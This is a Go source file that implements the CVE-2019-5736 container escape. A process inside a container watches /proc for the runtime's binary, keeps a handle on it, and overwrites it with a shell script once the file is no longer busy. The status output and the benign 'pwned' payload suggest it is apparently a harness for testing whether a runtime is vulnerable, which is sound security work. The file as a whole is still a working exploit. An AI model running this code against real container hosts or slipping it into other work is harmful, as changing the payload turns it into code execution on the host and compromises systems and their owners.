package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// exeAttack is CVE-2019-5736's attack, as its advisory describes it: a
// process in the container watches /proc for a process whose executable
// is not one of the image's (the runtime's binary, run inside the
// container when an image's program is a "#!/proc/self/exe" script),
// keeps a handle on that executable through /proc/PID/exe, and once the
// process is gone reopens the handle for writing, retrying while the
// kernel says the file is busy, to overwrite the binary. It prints
// "ready", then per catch "caught PID EXE" and "write-ok" or
// "write-blocked ERR", and "done" after secs seconds or three catches.
func exeAttack(secs int) {
	self, _ := os.Readlink("/proc/self/exe")
	known := map[string]bool{self: true}
	seen := map[string]bool{}
	fmt.Println("ready")
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	for catches := 0; catches < 3 && time.Now().Before(deadline); {
		pid, exe, fd := watchOnce(known, seen)
		if fd < 0 {
			continue
		}
		catches++
		fmt.Println("caught", pid, exe)
		overwrite(fd, deadline)
		unix.Close(fd)
	}
	fmt.Println("done")
}

// watchOnce looks at every process not seen before once, and returns an
// O_PATH handle on the first executable outside the image (known holds
// those seen in the image). fd is -1 when there was none.
func watchOnce(known, seen map[string]bool) (string, string, int) {
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return "", "", -1
	}
	for _, e := range ents {
		pid := e.Name()
		if _, err := strconv.Atoi(pid); err != nil || seen[pid] {
			continue
		}
		exe, err := os.Readlink("/proc/" + pid + "/exe")
		if err != nil {
			continue // not exec'd yet, or gone: look again
		}
		seen[pid] = true
		if known[exe] || strings.HasSuffix(exe, "/busybox") || strings.HasPrefix(exe, "/bin/") {
			known[exe] = true
			continue
		}
		fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			fmt.Println("open-failed", pid, exe, err)
			continue
		}
		return pid, exe, fd
	}
	return "", "", -1
}

// overwrite reopens the handle for writing through /proc/self/fd until
// the file is no longer busy, and writes over its first bytes.
func overwrite(fd int, deadline time.Time) {
	for time.Now().Before(deadline) {
		w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == unix.ETXTBSY {
			time.Sleep(time.Millisecond)
			continue
		}
		if err != nil {
			fmt.Println("write-blocked", err)
			return
		}
		_, err = unix.Write(w, []byte("#!/bin/sh\necho pwned by the container\n"))
		unix.Close(w)
		if err != nil {
			fmt.Println("write-blocked", err)
			return
		}
		fmt.Println("write-ok")
		return
	}
	fmt.Println("write-blocked still busy at the deadline")
}
